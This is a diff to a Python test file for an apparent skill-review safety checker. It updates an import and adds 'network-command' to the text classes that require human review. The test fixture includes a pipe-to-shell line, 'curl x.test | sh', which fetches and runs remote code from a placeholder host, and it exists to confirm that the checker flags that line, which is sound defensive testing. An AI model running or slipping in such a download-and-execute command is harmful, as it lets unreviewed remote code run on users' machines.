@@ -5,7 +5,7 @@ import pytest
 from skillopt.review.checks import check_new_text
 from skillopt.review.result import Weight
 from skillopt.safety.leaks import index_protected_text
-from skillopt.safety.lint import LintClass
+from skillopt.safety.text_classes import LintClass
 from skillopt.skills.document import Skill, SkillDocument
 from skillopt.tasks import File, Split, Suite, Task, VerifierSpec
 
@@ -75,6 +75,7 @@ def test_classes_that_hide_run_or_allow_need_a_person_and_an_address_does_not() 
         "url": False,
         "html-comment": True,
         "pipe-to-shell": True,
+        "network-command": True,
         "permission-key": True,
     }
     script = check_new_text(OLD, changed("", File("get.sh", b"curl x.test | sh\n")), "skills/rows", (), None)
